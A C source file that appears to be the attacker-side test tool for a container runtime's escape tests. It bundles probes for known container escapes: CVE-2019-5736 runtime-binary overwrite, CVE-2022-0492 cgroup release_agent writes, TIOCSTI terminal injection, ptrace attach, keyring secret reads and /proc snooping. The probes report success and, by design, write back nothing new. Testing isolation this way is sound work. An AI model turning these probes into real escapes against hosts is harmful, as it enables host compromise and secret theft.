// The attacker's tools in one static program, made by the tests with musl-gcc and put into a container's root as /attack (or run beside
// it). Each prints ESCAPED and what it got, or what it saw; none changes anything of the host's where it gets through.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void escaped(const char *what, const char *detail) {
  printf("ESCAPED %s %s\n", what, detail);
  fflush(stdout);
}

// Every descriptor but 0 to 2 and the one that lists them, with where it leads.
static int descriptors(void) {
  DIR *folder = opendir("/proc/self/fd");
  struct dirent *entry;
  while (folder && (entry = readdir(folder))) {
    int number = atoi(entry->d_name);
    if (entry->d_name[0] == '.' || number < 3 || number == dirfd(folder)) continue;
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/self/fd/%d", number);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    printf("%d %s\n", number, target);
  }
  return 0;
}

// CVE-2019-5736: opens what every process runs that is not of this file, and keeps it; when it runs no more (ETXTBSY is no defence), it is
// opened for writing. Says "ready" when it looks, and "saw" with how many images that were not the container's.
static int overwrite(int seconds) {
  struct stat own;
  stat("/proc/self/exe", &own);
  time_t end = time(NULL) + seconds;
  int kept[64], count = 0, isStopped = 0;
  puts("ready");
  fflush(stdout);
  while (time(NULL) < end && !isStopped) {
    isStopped = access("/stop", F_OK) == 0;
    DIR *folder = opendir("/proc");
    struct dirent *entry;
    while (folder && (entry = readdir(folder)) && count < 64) {
      if (atoi(entry->d_name) < 1 || atoi(entry->d_name) == getpid()) continue;
      char path[300];
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      int file = open(path, O_RDONLY | O_CLOEXEC);
      if (file < 0) continue;
      struct stat status;
      // The container's own programs are small; immure's image is megabytes.
      if (fstat(file, &status) == 0 && status.st_ino != own.st_ino && status.st_size > 4 << 20) kept[count++] = file;
      else close(file);
    }
    if (folder) closedir(folder);
  }
  printf("saw %d\n", count);
  while (count-- > 0) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept[count]);
    int writable;
    while ((writable = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && time(NULL) < end) {}
    if (writable >= 0 || errno == ETXTBSY) escaped("image writable", writable >= 0 ? "opened" : "still runs");
  }
  puts("done");
  return 0;
}

// Looks into every process that comes while it runs: descriptors that lead anywhere but into the root, working directories, environments.
static int peep(int seconds) {
  struct stat root;
  stat("/", &root);
  time_t end = time(NULL) + seconds;
  puts("ready");
  fflush(stdout);
  while (time(NULL) < end && access("/stop", F_OK) != 0) {
    DIR *folder = opendir("/proc");
    struct dirent *entry;
    while (folder && (entry = readdir(folder))) {
      if (atoi(entry->d_name) < 2 || atoi(entry->d_name) == getpid()) continue;
      for (int number = -1; number < 80; number++) {
        char path[300];
        struct stat status;
        if (number < 0) snprintf(path, sizeof path, "/proc/%s/cwd", entry->d_name);
        else snprintf(path, sizeof path, "/proc/%s/fd/%d", entry->d_name, number);
        int there = open(path, O_PATH | O_CLOEXEC);
        if (there < 0) continue;
        char below[64];
        snprintf(below, sizeof below, "/proc/self/fd/%d/canary", there);
        if (fstat(there, &status) == 0 && S_ISDIR(status.st_mode) && access(below, F_OK) == 0) escaped("folder", path);
        close(there);
      }
      for (int kind = 0; kind < 2; kind++) {
        char path[300], text[4096];
        snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, kind ? "environ" : "cmdline");
        int file = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t length = file < 0 ? 0 : read(file, text, sizeof text);
        if (file >= 0) close(file);
        if (length > 0 && (memmem(text, length, "CANARY", 6) || memmem(text, length, "immure-oci", 10)))
          escaped(kind ? "environment" : "arguments", entry->d_name);
      }
    }
    if (folder) closedir(folder);
  }
  puts("done");
  return 0;
}

// ptrace(2), process_vm_readv(2): whether this process may look into another.
static int attach(int pid) {
  char text[16];
  struct iovec mine = {text, sizeof text}, theirs = {(void *)0x400000, sizeof text};
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) escaped("attached", "ptrace");
  else if (errno != EPERM && errno != EACCES) escaped("attached", strerror(errno));
  else if (process_vm_readv(pid, &mine, 1, &theirs, 1, 0) >= 0 || (errno != EPERM && errno != EACCES)) escaped("read", "memory");
  else puts("refused");
  return 0;
}

// keyctl(2): a key of that name that some keyring of this process leads to; no key: what joining gave.
static int keys(const char *name, int isMade) {
  long session = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0);
  if (isMade) {
    long key = syscall(SYS_add_key, "user", name, "secret", 6, -3);
    printf("%ld %ld\n", session, key);
    return key > 0 ? 0 : 1;
  }
  long found = syscall(SYS_keyctl, 10 /* SEARCH */, -3, "user", name, 0);
  printf("session %ld\n", session);
  if (found > 0) {
    char text[64] = "";
    syscall(SYS_keyctl, 11 /* READ */, found, text, sizeof text - 1);
    escaped("key", text);
  }
  return 0;
}

static int abstract(const char *name, int listens) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
  socklen_t length = (socklen_t)(sizeof(sa_family_t) + 1 + strlen(name));
  int made = socket(AF_UNIX, SOCK_STREAM, 0);
  if (listens) {
    if (bind(made, (struct sockaddr *)&address, length) || listen(made, 8)) return 1;
    puts("listening");
    fflush(stdout);
    // A test's children may be started with their signals blocked.
    sigset_t none;
    sigemptyset(&none);
    sigprocmask(SIG_SETMASK, &none, NULL);
    alarm((unsigned)listens);
    pause();
  }
  if (connect(made, (struct sockaddr *)&address, length) == 0) escaped("abstract socket", name);
  else printf("refused: %s\n", strerror(errno));
  return 0;
}

// CVE-2017-5226: types into the terminal at standard input.
static int type(void) {
  char letter = '#';
  if (ioctl(0, TIOCSTI, &letter) == 0) escaped("typed", "into the terminal");
  else printf("refused: %s\n", strerror(errno));
  // A terminal that is nobody's controlling one could be made this session's, and then typed into.
  ioctl(0, TIOCSCTTY, 1);
  if (ioctl(0, TIOCSTI, &letter) == 0) escaped("typed", "after TIOCSCTTY");
  return 0;
}

// Writes back what stands in a file of the kernel's: where it is let through, nothing has changed.
static int rewrite(const char *path) {
  char text[4096];
  int file = open(path, O_RDONLY);
  ssize_t length = file < 0 ? 0 : read(file, text, sizeof text);
  file = open(path, O_WRONLY);
  if (file < 0) return printf("%s refused: %s\n", path, strerror(errno)), 0;
  if (length <= 0) text[0] = '\n', length = 1;
  if (write(file, text, (size_t)length) == length) escaped("wrote", path);
  else printf("%s refused: %s\n", path, strerror(errno));
  return 0;
}

// CVE-2022-0492: a hierarchy of version 1 mounted anew, alone and in namespaces of its own, and its release_agent written.
static int releaseAgent(void) {
  for (int round = 0; round < 2; round++) {
    if (round && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) break;
    mkdir("/tmp/agent", 0700);
    const char *names[] = {"memory", "pids", "freezer", "devices", "cpu", "cpuset", "blkio", "rdma"};
    for (size_t index = 0; index < sizeof names / sizeof *names; index++) {
      if (mount("cgroup", "/tmp/agent", "cgroup", 0, names[index])) continue;
      rewrite("/tmp/agent/release_agent");
      umount2("/tmp/agent", MNT_DETACH);
    }
  }
  puts("done");
  return 0;
}

// Exchanges two names as fast as it can, until the file `stop` is there.
static int swap(const char *one, const char *other, const char *stop) {
  unsigned long rounds = 0;
  while (rounds % 64 || access(stop, F_OK) != 0) {
    syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
    if (++rounds == 1) puts("ready"), fflush(stdout);
  }
  printf("%lu\n", rounds);
  return 0;
}

// Takes a name that fits into /proc/PID/stat as if its fields came earlier, and waits.
static void name(const char *text) {
  prctl(PR_SET_NAME, text);
  puts("named");
  fflush(stdout);
  for (;;) pause();
}

// Follows a command and all that it begets. `kill N`: at the Nth system call whoever makes it is killed (`maker`), or the command itself
// (`command`), before the call is done, and the rest goes on unseen. `count`: prints how many calls the command and its children made
// until the command ended; a child that waits longer is let go. The last line of `report` is the number and what was met.
static int walk(long at, int killsMaker, const char *report, char **command) {
  pid_t first = fork();
  if (first == 0) {
    raise(SIGSTOP);
    execv(command[0], command);
    _exit(127);
  }
  int status;
  waitpid(first, &status, WUNTRACED);
  const long options = PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEFORK | PTRACE_O_TRACEVFORK | PTRACE_O_TRACECLONE | PTRACE_O_TRACEEXEC;
  // Seized: what is born then is not sent a SIGSTOP, which would hold it for ever were this process to end before it is seen.
  ptrace(PTRACE_SEIZE, first, 0, options);
  kill(first, SIGCONT);
  long calls = 0;
  long long last = 0;
  int end = -1, isKilled = 0;
  pid_t victim = 0;
  while (end < 0) {
    pid_t pid = waitpid(-1, &status, __WALL);
    if (pid < 0) {
      if (errno == EINTR) continue;
      break;
    }
    if (!WIFSTOPPED(status)) {
      if (pid == first) end = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
      continue;
    }
    int signal = WSTOPSIG(status);
    if (signal == (SIGTRAP | 0x80)) {
      struct {
        uint8_t op, pad[3];
        uint32_t arch;
        uint64_t instruction, stack, number, arguments[6];
      } info = {0};
      ptrace(0x420e /* PTRACE_GET_SYSCALL_INFO */, pid, sizeof info, &info);
      // The command's own exec is not the command's doing.
      if (info.op == 1 && !(calls == 0 && info.number == SYS_execve)) {
        calls++;
        last = (long long)info.number;
        if (calls == at && !isKilled) {
          isKilled = 1;
          victim = killsMaker ? pid : first;
          kill(victim, SIGKILL);
          if (victim != first) {
            // The command goes on and sees it: it is followed to its end.
            at = -1;
          }
          if (victim == pid) continue;
        }
      }
      signal = 0;
    } else if (status >> 16 == PTRACE_EVENT_STOP && signal != SIGTRAP) {
      // Stopped as a whole, until somebody continues it.
      ptrace(PTRACE_LISTEN, pid, 0, 0);
      continue;
    } else if (status >> 16) {
      signal = 0;
    }
    ptrace(PTRACE_SYSCALL, pid, 0, signal);
  }
  FILE *out = fopen(report, "w");
  fprintf(out, "%ld %lld %d %d\n", calls, last, isKilled, end);
  fclose(out);
  // Whoever is traced still is let go when this process ends (ptrace(2)).
  return end < 0 ? 1 : end;
}

// Follows a command and all that it begets until one of them makes a system call of this number; then the command is killed, all others stay
// where they are, and "held" is said, until standard input ends: they are let go then.
static int hold(long number, char **command) {
  pid_t first = fork();
  if (first == 0) {
    raise(SIGSTOP);
    execv(command[0], command);
    _exit(127);
  }
  int status;
  waitpid(first, &status, WUNTRACED);
  ptrace(PTRACE_SEIZE, first, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEFORK | PTRACE_O_TRACEVFORK | PTRACE_O_TRACECLONE | PTRACE_O_TRACEEXEC);
  kill(first, SIGCONT);
  for (;;) {
    pid_t pid = waitpid(-1, &status, __WALL);
    if (pid < 0 && errno == EINTR) continue;
    if (pid < 0 || (pid == first && !WIFSTOPPED(status))) return 1;
    if (!WIFSTOPPED(status)) continue;
    int signal = WSTOPSIG(status);
    if (signal == (SIGTRAP | 0x80)) {
      struct {
        uint8_t op, pad[3];
        uint32_t arch;
        uint64_t instruction, stack, number, arguments[6];
      } info = {0};
      ptrace(0x420e /* PTRACE_GET_SYSCALL_INFO */, pid, sizeof info, &info);
      if (info.op == 1 && (long)info.number == number) break;
      signal = 0;
    } else if (status >> 16 == PTRACE_EVENT_STOP && signal != SIGTRAP) {
      ptrace(PTRACE_LISTEN, pid, 0, 0);
      continue;
    } else if (status >> 16) {
      signal = 0;
    }
    ptrace(PTRACE_SYSCALL, pid, 0, signal);
  }
  kill(first, SIGKILL);
  // Its threads' ends are to be seen too, before its own can be.
  for (pid_t pid = 0; pid != first || WIFSTOPPED(status);) {
    pid = waitpid(-1, &status, __WALL);
    if (pid < 0 && errno != EINTR) return 1;
  }
  puts("held");
  fflush(stdout);
  char byte;
  while (read(0, &byte, 1) > 0) {}
  return 0;
}

int main(int count, char **words) {
  const char *verb = count > 1 ? words[1] : "";
  if (!strcmp(verb, "descriptors")) return descriptors();
  if (!strcmp(verb, "overwrite")) return overwrite(atoi(words[2]));
  if (!strcmp(verb, "peep")) return peep(atoi(words[2]));
  if (!strcmp(verb, "attach")) return attach(atoi(words[2]));
  if (!strcmp(verb, "key")) return keys(words[2], 0);
  if (!strcmp(verb, "keyed")) {
    // A session with a secret in it, and the command within.
    syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, 0);
    if (keys(words[2], 1)) return 1;
    execv(words[3], words + 3);
    return 127;
  }
  if (!strcmp(verb, "abstract")) return abstract(words[2], 0);
  if (!strcmp(verb, "listen")) return abstract(words[2], atoi(words[3]));
  if (!strcmp(verb, "type")) return type();
  if (!strcmp(verb, "release-agent")) return releaseAgent();
  if (!strcmp(verb, "swap")) return swap(words[2], words[3], words[4]);
  if (!strcmp(verb, "name")) name(words[2]);
  if (!strcmp(verb, "rewrite")) {
    for (int index = 2; index < count; index++) rewrite(words[index]);
    return 0;
  }
  if (!strcmp(verb, "walk")) return walk(atol(words[2]), !strcmp(words[3], "maker"), words[4], words + 5);
  if (!strcmp(verb, "hold")) return hold(atol(words[2]), words + 3);
  // Waits without a sleep of its own.
  if (!strcmp(verb, "wait")) for (;;) pause();
  fprintf(stderr, "attack: \"%s\"?\n", verb);
  return 2;
}
